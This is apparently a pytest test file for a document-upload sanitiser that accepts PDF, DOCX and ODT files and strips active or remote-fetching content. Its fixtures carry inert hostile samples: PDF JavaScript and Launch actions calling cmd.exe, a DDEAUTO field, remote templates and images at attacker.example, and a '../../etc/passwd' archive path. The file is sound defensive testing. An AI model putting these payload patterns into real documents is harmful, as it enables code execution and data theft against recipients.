"""Which files are taken, by content and structure, and what is left of what acts or fetches."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from hub.documents.cleaning import clean
from hub.documents.findings import Bounds, RefusedError
from hub.documents.kinds import kind_of
from hub.models import HubPolicy, Upload
from hub.uploads import UploadRefused, receive
from hub.uploads.refusals import words_for
from tests.factories.files import (
    MAIN,
    action,
    docx_members,
    docx_with_picture,
    locked_zip,
    make_docx,
    make_odt,
    make_pdf,
    pdf_with_attachment,
    pdf_with_field_script,
    relations,
    upload,
    zipped,
)
from tests.factories.hub import make_person
from tests.harmless import acts_in

KINDS = set(Upload.Kind.values)
BOUNDS = Bounds(expanded=20_000_000, members=100)
WRONG = "must be a PDF, DOCX or ODT"
MACROS = "has macros in it"
PROGRAM = "has a program inside it"
COMPLEX = "too large or complex"
DAMAGED = "is damaged"
LOCKED = "needs a password"
NOTHING = "has nothing in it"
ELSEWHERE = "cannot read all the text"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 100
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def found(content: bytes, bounds: Bounds = BOUNDS) -> str:
    """The kind of a file, or why it is refused."""
    try:
        return clean(content, bounds).kind
    except RefusedError as refused:
        return words_for(refused.refusal, kind_of(content))


def cases(names: str, pairs: list[tuple[bytes, str]]):
    """A test for each file, named by its place in the list and not by its bytes."""
    ids = [f"{number}-{says[:12]}" for number, (_, says) in enumerate(pairs)]
    return pytest.mark.parametrize(names, pairs, ids=ids)


LINK = relations(("hyperlink", "https://www.gov.uk", True), ("hyperlink", "mailto:a@b.uk", True))
INSIDE = '<draw:image xlink:href="Pictures/1.png"/>'
LIBRARIES = {"Basic/script-lc.xml": "<x/>", "Basic/Standard/script-lb.xml": "<x/>"}
ODT_LINK = '<text:a xlink:href="https://www.gov.uk">a link</text:a>'


@cases(
    "content, kind",
    [
        (make_pdf(), "pdf"),
        (make_pdf(pages=30), "pdf"),
        (make_pdf() + b"\n\n", "pdf"),
        (b"\xef\xbb\xbf\n" + make_pdf(), "pdf"),
        (make_pdf() + b"\0" * 20_000, "pdf"),
        (make_pdf()[:-30], "pdf"),
        (make_pdf(owner_password="secret"), "pdf"),
        (make_docx(), "docx"),
        (docx_with_picture(PNG), "docx"),
        (make_docx({"word/_rels/document.xml.rels": LINK}), "docx"),
        (make_docx(text="名前"), "docx"),
        (make_docx() + b"\0" * 5_000, "docx"),
        (make_odt(), "odt"),
        (
            make_odt({"Pictures/1.png": PNG}, inside='<draw:image xlink:href="Pictures/1.png"/>'),
            "odt",
        ),
        (make_odt(inside=ODT_LINK), "odt"),
        (make_odt(LIBRARIES), "odt"),
    ],
)
def test_good_files_are_known_by_what_is_in_them(content, kind):
    assert found(content) == kind


SCRIPT = action("JavaScript", JS=TextStringObject("app.alert(1)"))
LAUNCH = action("Launch", F=TextStringObject("cmd.exe"))


@cases(
    "content, why",
    [
        (b"hello", WRONG),
        (b"\x89PNG\r\n\x1a\n", WRONG),
        (b"MZ" + b"\0" * 200, WRONG),
        (b"{\\rtf1 hello}", WRONG),
        (b"<html><script>alert(1)</script></html>", WRONG),
        (OLE, "in an old format"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), LOCKED),
        (b"%PDF-1.7\n" + b"x" * 200, DAMAGED),
        (b"%PDF-1.7\nnonsense\n%%EOF", DAMAGED),
        (make_pdf(pages=0), NOTHING),
        (make_pdf(password="secret"), LOCKED),
        (make_pdf(NeedsRendering=True), ELSEWHERE),
    ],
)
def test_files_of_other_kinds_and_pdfs_that_nobody_can_read_are_refused(content, why):
    assert why in found(content)


def test_what_helps_depends_on_the_kind_of_file():
    assert "print it to a new PDF" in found(make_pdf(password="secret"))
    assert "save it as a PDF" in found(locked_zip(make_docx()))


def annotated(kind: str, **more) -> bytes:
    note = DictionaryObject({NameObject("/Subtype"): NameObject(f"/{kind}")})
    note |= {NameObject(f"/{name}"): value for name, value in more.items()}
    return make_pdf(notes=[note])


SHARE = TextStringObject(r"\\attacker.example\share\x.pdf")
SITE = TextStringObject("https://attacker.example/")


@cases(
    "content, out",
    [
        (make_pdf(OpenAction=SCRIPT), "scripts"),
        (make_pdf(OpenAction=LAUNCH), "scripts"),
        (pdf_with_field_script(), "scripts"),
        (pdf_with_attachment(), "files"),
        (make_pdf() + make_docx(), ""),
        (b"GIF89a" + make_pdf(), ""),
        (annotated("Link", A=action("URI", URI=TextStringObject("file://server/x"))), "scripts"),
        (annotated("Link", A=action("GoToR", F=SHARE)), "remote"),
        (annotated("Link", A=action("GoTo", Next=SCRIPT)), "scripts"),
        (annotated("Link", PA=action("URI", URI=SITE)), "remote"),
        (annotated("Link", A=action("URI", URI=SITE, Next=ArrayObject([LAUNCH]))), "scripts"),
        (annotated("Widget", A=action("SubmitForm", F=SITE)), "scripts"),
        (annotated("Widget", AA=DictionaryObject({NameObject("/E"): SCRIPT})), "scripts"),
        (annotated("Screen", A=action("Rendition", JS=SITE)), "media"),
        (annotated("Movie", Movie=DictionaryObject({NameObject("/F"): SHARE})), "media"),
        (annotated("Sound"), "media"),
        (annotated("RichMedia"), "media"),
        (annotated("Unheard-of", A=LAUNCH), ""),
        (make_pdf(Unheard=DictionaryObject({NameObject("/Any"): SCRIPT})), ""),
    ],
)
def test_what_acts_in_a_pdf_is_taken_out(content, out):
    assert acts_in("pdf", content)
    done = clean(content, BOUNDS)
    assert acts_in("pdf", done.content) == []
    assert not out or out in done.taken_out


def test_a_link_to_a_page_or_a_mailbox_stays_in_a_pdf():
    for address in ("https://www.gov.uk/", "mailto:sam@example.com"):
        linked = annotated("Link", A=action("URI", URI=TextStringObject(address)))
        assert address.encode() in zipped_out(clean(linked, BOUNDS).content)


def zipped_out(content: bytes) -> bytes:
    """A PDF written so that it can be searched."""
    import pikepdf

    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        pdf.save(written, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return written.getvalue()


def external(kind: str, target: str = "https://attacker.example/x", more: str = "") -> bytes:
    return make_docx(
        {"word/_rels/document.xml.rels": relations((kind, target, True))},
        body=f'<w:p xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        f'xmlns:v="urn:schemas-microsoft-com:vml">{more}</w:p>',
    )


def field(words: str) -> bytes:
    halves = (words[:2], words[2:])
    runs = "".join(f"<w:r><w:instrText>{half}</w:instrText></w:r>" for half in halves)
    return make_docx(body=f"<w:p>{MARK.format('begin')}{runs}{MARK.format('end')}</w:p>")


MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
BEGUN, ENDED = MARK.format("begin"), MARK.format("end")
PARTS = "<w:r><w:t>INCLUDE</w:t></w:r><w:r><w:instrText>TEXT x</w:instrText></w:r>"
CODE = "<w:r><w:instrText>DDE x</w:instrText></w:r>"
QUOTE = "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>"


@cases(
    "content, out",
    [
        (external("attachedTemplate"), "remote"),
        (external("attachedTemplate", "file:///C:/Normal.dotm"), ""),
        (external("image"), "remote"),
        (external("frame"), "remote"),
        (external("hyperlink", "file://server/share", '<w:hyperlink r:id="r0"/>'), ""),
        (external("hyperlink", "javascript:alert(1)", '<w:hyperlink r:id="r0"/>'), ""),
        (external("oleObject"), "remote"),
        (external("image", more='<v:imagedata src="https://attacker.example/x"/>'), "remote"),
        (field("DDEAUTO c:\\\\cmd.exe"), "remote"),
        (field("INCLUDEPICTURE http://attacker.example/x"), "remote"),
        (field("includetext&#x9;\\\\server\\x"), "remote"),
        (make_docx(body=f"<w:p>{BEGUN}{PARTS}{ENDED}</w:p>"), "remote"),
        (make_docx(body='<w:p><w:fldSimple w:instr=" LINK Excel.Sheet x"/></w:p>'), "remote"),
        (make_docx(body=f"<w:p>{BEGUN}{CODE}</w:p>"), "remote"),
        # Its name comes out of another field.
        (make_docx(body=f"<w:p>{BEGUN}{BEGUN}{QUOTE}{ENDED}{ENDED}</w:p>"), "remote"),
        (make_docx() + b"%PDF-1.7 trailing", ""),
        (docx_with_picture(zipped({"a": "b"})), ""),
        (docx_with_picture(OLE), ""),
    ],
)
def test_what_fetches_in_a_word_document_is_taken_out(content, out):
    assert acts_in("docx", content)
    done = clean(content, BOUNDS)
    assert acts_in("docx", done.content) == []
    assert not out or out in done.taken_out


def test_a_document_typed_as_a_template_is_taken_and_kept_as_a_document():
    done = clean(make_docx(main=MAIN.replace("document.main", "template.main")), BOUNDS)
    with zipfile.ZipFile(io.BytesIO(done.content)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    assert (done.kind, f'"{MAIN}"' in types, "template" in types) == ("docx", True, False)


def test_a_field_that_is_taken_out_leaves_what_it_showed():
    shown = "<w:r><w:t>the picture I mean</w:t></w:r>"
    code = "<w:r><w:instrText>INCLUDEPICTURE x</w:instrText></w:r>"
    marks = [MARK.format(kind) for kind in ("begin", "separate", "end")]
    done = clean(make_docx(body=f"<w:p>{marks[0]}{code}{marks[1]}{shown}{marks[2]}</w:p>"), BOUNDS)
    with zipfile.ZipFile(io.BytesIO(done.content)) as archive:
        text = archive.read("word/document.xml").decode()
    assert ("the picture I mean" in text, "INCLUDE" in text) == (True, False)


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
ENTITY = '<!DOCTYPE x [<!ENTITY a "aaaa">]><w:document/>'
NEEDED = {"word/_rels/document.xml.rels": relations(("styles", "big.xml", False))}


@cases(
    "content, why",
    [
        (make_docx(main=MACRO_MAIN), MACROS),
        (make_docx({"word/vbaProject.bin": b"x"}), MACROS),
        (make_docx({"word/other.bin": b"x"}, types=VBA), MACROS),
        (make_docx(text=" "), NOTHING),
        (make_docx(text=" ", body="<w:altChunk/>"), ELSEWHERE),
        (make_docx({"word/media/a.png": b"MZ" + b"\0" * 300}), PROGRAM),
        (make_docx({"word/document.xml": "<w:document"}), DAMAGED),
        (make_docx({"word/document.xml": ENTITY}), DAMAGED),
        (zipped({"a.txt": "hello"}), WRONG),
        (zipped({"xl/workbook.xml": "<x/>"} | {"[Content_Types].xml": "<Types/>"}), WRONG),
        (make_docx()[:-30], DAMAGED),
        (locked_zip(make_docx()), LOCKED),
        (make_docx(NEEDED | {"word/big.xml": b"\0" * 21_000_000}), COMPLEX),
        (make_docx({f"word/{number}.xml": "<x/>" for number in range(100)}), COMPLEX),
    ],
)
def test_bad_word_documents_are_refused(content, why):
    assert why in found(content)


def test_only_the_parts_that_the_text_needs_are_kept():
    more = {
        "../../etc/passwd": "x",
        "C:\\x": "x",
        "word/embeddings/a.xlsx": zipped({"a": "b"}),
        "mimetype": "application/vnd.oasis.opendocument.text",
        "big.xml": b"\0" * 21_000_000,
    }
    done = clean(make_docx(more), BOUNDS)
    with zipfile.ZipFile(io.BytesIO(done.content)) as archive:
        assert archive.namelist() == ["[Content_Types].xml", "_rels/.rels", "word/document.xml"]


ENCRYPTION = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
OLE_FRAME = '<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>'
PICTURE = '<draw:image xlink:href="https://attacker.example/x.png"/>'
PARENT = '<draw:image xlink:href="../../x.png"/>'
BAD_LINK = '<text:a xlink:href="javascript:alert(1)">x</text:a>'
FRAME = '<draw:floating-frame xlink:href="https://attacker.example/"/>'
OBJECT = '<draw:object xlink:href="./Object 1"/>'
ACTING = {"Object 1/content.xml": "<m><script/></m>"}
LISTENER = '<draw:frame xlink:href="//server/x"><script:event-listener/></draw:frame>'


@cases(
    "content, why",
    [
        (make_odt(mime="application/vnd.oasis.opendocument.spreadsheet"), WRONG),
        (make_odt(text=" "), NOTHING),
        (make_odt(manifest=ENCRYPTION), LOCKED),
        (make_odt({"Basic/Standard/Module1.xml": "<x/>"}), MACROS),
        (make_odt({"Scripts/python/x.py": "print()"}), MACROS),
        (zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), DAMAGED),
    ],
)
def test_bad_opendocument_texts_are_refused(content, why):
    assert why in found(content)


@cases(
    "content, out",
    [
        (make_odt(inside="<script:event-listener/>"), "scripts"),
        (make_odt(inside=LISTENER), "scripts"),
        (make_odt(inside=OLE_FRAME), "files"),
        (make_odt(inside=PICTURE), "remote"),
        (make_odt(inside=PARENT), ""),
        (make_odt(inside=BAD_LINK), ""),
        (make_odt(inside="<text:dde-connection>x</text:dde-connection>"), "remote"),
        (make_odt(inside='<text:section-source xlink:href="//server/x.odt"/>'), "remote"),
        (
            make_odt(inside='<draw:floating-frame xlink:href="https://attacker.example/"/>'),
            "remote",
        ),
        (make_odt({"meta.xml": '<m><auto-reload xmlns:x="u" x:href="http://a/"/></m>'}), "remote"),
        (make_odt(ACTING, inside=OBJECT), "scripts"),
    ],
)
def test_what_acts_in_an_opendocument_text_is_taken_out(content, out):
    assert acts_in("odt", content)
    done = clean(content, BOUNDS)
    assert acts_in("odt", done.content) == []
    assert not out or out in done.taken_out


def test_a_member_that_lies_about_its_size_is_refused():
    """The directory says one byte, the data holds far more."""
    honest = make_docx(NEEDED | {"word/big.xml": b"a" * 4_000})
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        size = archive.getinfo("word/big.xml").file_size
    lying = honest.replace(size.to_bytes(4, "little"), (1).to_bytes(4, "little"))
    assert lying != honest
    assert DAMAGED in found(lying) or found(lying) == "docx"


def test_a_prefix_before_a_zip_file_is_no_document():
    assert WRONG in found(b"#!/bin/sh\n" + make_docx())
    comment = io.BytesIO()
    with zipfile.ZipFile(comment, "w") as archive:
        for name, content in docx_members().items():
            archive.writestr(name, content)
        archive.comment = b"%PDF-1.7 hidden"
    assert b"hidden" not in clean(comment.getvalue(), BOUNDS).content


GOOD = [make_pdf(pages=2), make_docx(), make_odt(), docx_with_picture(PNG)]


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(GOOD),
    st.lists(st.tuples(st.floats(0, 1), st.binary(max_size=12), st.integers(0, 40)), min_size=1),
)
def test_a_file_with_any_damage_is_taken_or_refused_and_never_breaks_the_page(content, damages):
    for place, put, cut in damages:
        at = int(place * len(content))
        content = content[:at] + put + content[at + cut :]
    assert found(content) in KINDS or found(content).startswith(("The selected file", "We cannot"))


@pytest.mark.django_db
def test_the_size_is_policy_and_the_name_of_the_file_says_nothing():
    person = make_person()
    taken = receive(actor=person, file=upload(make_docx(), "cv.exe"), purpose="hub.test")
    assert (taken.kind, "cv" in taken.file.name) == (Upload.Kind.DOCX, False)
    policy = HubPolicy.load()
    policy.upload_megabytes = 1
    policy.save()
    large = make_pdf() + b"\n" * 1_000_000
    with pytest.raises(UploadRefused, match="must be smaller than 1MB"):
        receive(actor=person, file=upload(large), purpose="hub.test")
    assert Upload.objects.count() == 1
